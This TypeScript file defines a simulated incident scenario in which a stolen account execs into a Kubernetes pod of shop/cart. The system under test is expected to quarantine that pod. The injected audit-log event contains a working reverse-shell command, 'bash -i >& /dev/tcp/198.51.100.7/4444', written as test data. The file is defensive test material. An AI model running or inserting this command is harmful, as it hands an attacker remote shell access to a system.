import type { Incident } from '../../shared/model/incident.ts';
import { timeOf } from '../../shared/model/time.ts';
import type { KubeCluster } from '../world/kubernetes/cluster.ts';
import { SHOP } from '../world/seed.ts';
import { clusterKey, type World } from '../world/world.ts';
import { auditEntry } from './audit-entry.ts';
import type { Scenario } from './scenario.ts';

const NAMESPACE = 'shop';
const APP = 'cart';
const TIER = 'quarantine';

/** The first running pod of the Deployment: its name is the world's choice. */
const victimOf = (world: World): string => {
  const cluster: KubeCluster | undefined = world.clusters.get(clusterKey(SHOP));
  const pods = cluster?.list('v1', 'Pod', NAMESPACE) ?? [];
  const found = pods.find((pod) => pod.metadata.labels?.app === APP);
  if (found === undefined) throw new Error(`the world has no pod of ${NAMESPACE}/${APP}: seed it with seedShop`);
  return found.metadata.name;
};

const missingOf = (incident: Incident | undefined): string[] => {
  if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
  const { decision, goal, run, journal } = incident;
  const quarantined = journal.find((e) => e.step === 'quarantine-pod');
  return [
    ...(decision?.tier === TIER && decision.verdict === 'act'
      ? []
      : [
          `expected the decision act: ${TIER}, found ${decision === null ? 'none' : `${decision.verdict}: ${decision.tier}`}`,
        ]),
    ...(goal !== null && goal.rev === run.rev ? [] : ['the run has not finished']),
    ...(quarantined?.state === 'applied'
      ? []
      : [`quarantine-pod is not done, but ${quarantined?.state ?? 'not begun'}`]),
  ];
};

/** Somebody opens a reverse shell in a pod of a shop; it ends in quarantine, its evidence kept. */
export const reverseShell: Scenario = {
  id: 'reverse-shell',
  title: 'A reverse shell in a pod',
  story: [
    'ana@example.com, whose laptop was stolen, runs a shell in a pod of Deployment shop/cart.',
    'Its input and output go to 198.51.100.7; the API server writes an audit log entry, and that is all we get.',
  ],
  events: (world, now) => [
    {
      afterMs: 0,
      topic: 'audit-log',
      body: auditEntry({
        ...SHOP,
        at: timeOf(now),
        verb: 'create',
        resource: 'pods',
        subresource: 'exec',
        namespace: NAMESPACE,
        name: victimOf(world),
        command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      }),
    },
  ],
  missing: (incidents) =>
    missingOf(incidents.find(({ target }) => target.namespace === NAMESPACE && target.cluster === SHOP.cluster)),
};
